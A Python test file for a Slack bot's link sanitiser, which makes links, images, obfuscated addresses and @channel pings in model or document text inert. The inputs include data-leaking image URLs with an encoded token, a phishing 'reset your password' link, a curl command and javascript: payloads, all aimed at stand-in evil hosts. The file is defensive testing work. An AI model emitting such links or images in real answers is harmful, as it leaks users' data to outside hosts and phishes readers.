"""Links and pings from documents or a model have no effect."""

import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from bot.code import WORD_JOINER
from bot.links import disarm, urls
from bot.reply import Part, escaped_markdown, parts
from bot.split import split
from retrieval.types import Notice

OK = frozenset({"https://files.example/F1"})


def test_images_go_altogether() -> None:
    text = disarm("The store opens at seven [1]. ![ok](https://img.evil.example/p.png?q=VE9LRU4)", OK)

    assert text.strip() == "The store opens at seven [1]."


def test_links_keep_their_label_and_behind_it_as_code_the_address_where_a_source_has_it() -> None:
    text = disarm(
        "Please <https://evil.example/login?u=1|reset your password> or [sign in](https://evil.example/2) "
        "or see [the file](https://files.example/F1) [1].",
        OK,
    )

    assert text == "Please reset your password or sign in or see the file (`https://files.example/F1`) [1]."


@pytest.mark.parametrize(
    "evil",
    [
        "https://evil.example/x",
        "<https://evil.example/x>",
        "[a](<https://evil.example/x>)",
        "[a]( https://evil.example/x 'title' )",
        "[a [b] c](https://evil.example/x)",
        "[a](https://evil.example/x\n)",
        "[a][b]\n\n[b]: https://evil.example/x",
        "`code [a](https://evil.example/x)",
        "HTTPS://evil.example/x",
        "(https://evil.example/x)",
        "xhttps://evil.example/x",
    ],
)
def test_no_unknown_address_stays_a_link(evil: str) -> None:
    shown = escaped_markdown(disarm(f"See {evil} now", OK))

    outside_code = re.sub(r"`[^`\n]*`", "", shown)
    assert "://evil" not in outside_code
    assert "](" not in outside_code


def test_a_citation_mark_before_a_bracket_stays_a_mark() -> None:
    text = "26 days [1](see the manual), six [2](a) and [3](https://evil.example/x)."

    assert disarm(text).replace(WORD_JOINER, "") == ("26 days [1](see the manual), six [2](a) and [3]((…)).")


@pytest.mark.parametrize("evil", ["[a](javascript:alert(1))", "[a](slack://user?id=U1)", "[a](//evil.example)"])
def test_other_schemes_are_no_links_either(evil: str) -> None:
    assert disarm(evil, OK) == "a"


def test_an_address_in_code_is_shown_where_a_source_has_it() -> None:
    text = disarm("```\ncurl https://evil.example/x\ncurl https://files.example/F1\n```", OK)

    assert text == "```\ncurl (…)\ncurl https://files.example/F1\n```"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("See https://evil.example/?q=secret.", "See (…)."),
        ("Ask https://files.example/F1?q=secret", "Ask (…)"),
        ("www.evil.example/x, bit.ly/x2, evil.shop/a?b=1 and evil.shop:8080", "(…), (…), (…) and (…)"),
        ("mailto:eve@evil.example or eve@evil.example", "(…) or (…)"),
        ("javascript:alert(1) data:text/html,x", "(…) (…)"),
        ("https://аpple.com/x and аpple.com", "(…) and (…)"),
        ("https&#58;//evil.example/x and https&colon;&#x2f;&#47;evil.example", "(…) and (…)"),
        ("`https://evil.example/x` and ``` evil.com ```", "`(…)` and ``` (…) ```"),
        ("http\\://evil.example/x", "(…)"),
        ("https:**//evil**.example/x is out", "(…) is out"),
    ],
)
def test_an_address_that_no_cited_passage_holds_does_not_leave(text: str, shown: str) -> None:
    assert disarm(text, OK).replace(WORD_JOINER, "") == shown


@pytest.mark.parametrize(
    ("passage", "answer"),
    [
        ("At https://ok.example/a(b).", "`https://ok.example/a(b)`"),
        ("At https://ok.example/a", "`ok.example/a`"),
        ("Write to HR@corp.example", "`HR@corp.example`"),
        ("Booking.com is allowed", "`booking.com`"),
        ("见https://ok.example/a。", "`https://ok.example/a`的说明"),
    ],
)
def test_an_address_that_a_cited_passage_holds_is_shown_as_code(passage: str, answer: str) -> None:
    assert disarm(answer.replace("`", ""), urls([passage])) == answer


@pytest.mark.parametrize(
    "text", ["handbook.md, app.py/main, Node.js or 3.5", "e.g. a.m./p.m.", "Dr. Ana met Mr.Lee", "done.Then 12:30"]
)
def test_what_only_looks_a_little_like_an_address_stays(text: str) -> None:
    assert disarm(text) == text


def test_addresses_of_the_sources_are_shown_in_full_as_code() -> None:
    known = urls(["It lies at https://files.example/F1, see also (https://wiki.example/a_(b)) or ask hr@corp.example."])

    assert known >= {"https://files.example/F1", "https://wiki.example/a_(b)", "hr@corp.example"}
    assert disarm("Open https://files.example/F1.", known) == "Open `https://files.example/F1`."
    assert disarm("Ask hr@corp.example.", known) == "Ask `hr@corp.example`."
    assert disarm("[HR](mailto:hr@corp.example), [a](<https://wiki.example/a_(b)> 'A')", known) == (
        "HR (`mailto:hr@corp.example`), a (`https://wiki.example/a_(b)`)"
    )
    assert disarm("![plan](https://files.example/F1)", known) == "plan (`https://files.example/F1`)"
    assert disarm("[https://files.example/F1](https://files.example/F1)", known) == "`https://files.example/F1`"


@pytest.mark.parametrize(
    ("markdown", "shown"),
    [
        ("```note``` see [x](https://evil.example/)", "```note``` see x"),
        (r"\`[x](mailto:a@evil.example)\`", r"\`x\`"),
        (r"[a\](https://evil.example/x)", r"[a\]((…))"),
        (r"\[a](https://evil.example/x)", rf"\[a]{WORD_JOINER}((…))"),
        ("`` ` `` [x](https://evil.example/)", "`` ` `` x"),
        ("` stray https://files.example/F1", "ˋ stray `https://files.example/F1`"),
        ("`a`https://files.example/F1`b`", f"`a`{WORD_JOINER}`https://files.example/F1`{WORD_JOINER}`b`"),
        ("[a `b` c](https://evil.example/)", "a `b` c"),
        ("`a\n\n[x](https://evil.example/)`", "`a\n\nx`"),
        ("- one\n\n  ~~~\n  [x](y)\n  ~~~\n- [x](https://evil.example/)", "- one\n\n  ~~~\n  [x](y)\n  ~~~\n- x"),
        ("> [b]: https://evil.example/x", f"> [b]{WORD_JOINER}: (…)"),
        ("| `a | b` |\n|---|---|\n| `[x](y) | z` |", "| `a | b` |\n|---|---|\n| `x | z` |"),
        ("请访问https://files.example/F1。谢谢", "请访问`https://files.example/F1`。谢谢"),
    ],
)
def test_code_is_what_markdown_takes_for_code_and_all_else_is_disarmed(markdown: str, shown: str) -> None:
    assert disarm(markdown, OK) == shown


def test_nobody_is_woken() -> None:
    said = "<!channel> please read, <!here>, <!everyone>, <!subteam^S1|@ops>, <@U123>, @channel @here [1]"

    shown = escaped_markdown(disarm(said))

    assert not re.search(r"<!|<@|@channel|@here", shown)
    assert "&lt;!channel&gt;" in shown


def test_markdown_that_means_no_harm_stays_as_it_is() -> None:
    text = "**Yes** [1], `a[0](b)` and\n\n> quoted\n\n```py\nx = f(y)[1]\n```\n| a | b |\n|---|---|"

    assert disarm(text) == text


def test_entities_in_a_document_are_shown_as_they_are_written() -> None:
    assert escaped_markdown("write &lt; for < & \n> quote > here") == "write &amp;lt; for &lt; & \n> quote &gt; here"


SCRAPS = st.lists(
    st.sampled_from(
        [
            *(
                "`",
                "``",
                "```",
                "~~~",
                "\n```\n",
                "\n~~~x\n",
                "```a```",
                "\\",
                "\\`",
                "\n",
                "\n\n",
                "    ",
                "\t",
                "> ",
                "- ",
            ),
            *(
                "[",
                "]",
                "(",
                ")",
                "![",
                "](",
                "]:",
                "[a]",
                "[a](",
                "[a]: ",
                "<",
                ">",
                "|",
                "\n|-|-|\n",
                "&#58;",
                "&lt;",
            ),
            *(
                "https://evil.example/x",
                "http:",
                "//",
                "www.",
                "mailto:",
                "a@evil.example",
                "evil.com",
                "<https://e.example>",
            ),
            *("@channel", "<!here>", "<@U1>", "@", "here", "*", "**", "_", "a", "b. ", " ", "1"),
        ]
    ),
    max_size=40,
).map("".join)


def effects(posted: str) -> list[str]:
    """What a reader of the Markdown, or Slack, would make live of it."""
    html = MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(posted)
    seen = re.sub(r"<code.*?</code>", " ", html, flags=re.DOTALL)
    text = re.sub(r"</?(?:em|strong|s)>", "", seen)
    raw = re.findall(r"<[!@#a-z]", posted)
    return raw + re.findall(
        r"<a |<img|[a-z]://[a-z0-9]|(?<![a-z0-9])www\.\w|\w@evil|evil\.com(?![a-z0-9])|@channel|@here", text
    )


@given(SCRAPS)
@example("    `[a](https://evil.example/x)")
@example("```note``` see [x](https://evil.example/)")
@example("[`]: https://evil.example/x\n\n[a][`]")
@example("- > ```\n- > [a](https://evil.example/x)")
@example("https&#58;//evil.example/x")
@example("evil.com- ")
@example("https:**//evil**.example")
def test_nothing_that_is_posted_is_live(text: str) -> None:
    for part in parts(Notice("clarify", f"x {text}")):
        block = part.as_blocks()["blocks"][0]["text"]

        assert effects(block) == []
        assert not re.search(r"<", "".join(payload["text"] for payload in part.as_texts()))


@given(SCRAPS, st.integers(min_value=20, max_value=60))
@example("]://http:", 20)
def test_nothing_that_is_cut_is_live(text: str, limit: int) -> None:
    for piece in split(disarm(text), limit):
        assert effects(Part(piece).as_blocks()["blocks"][0]["text"]) == []
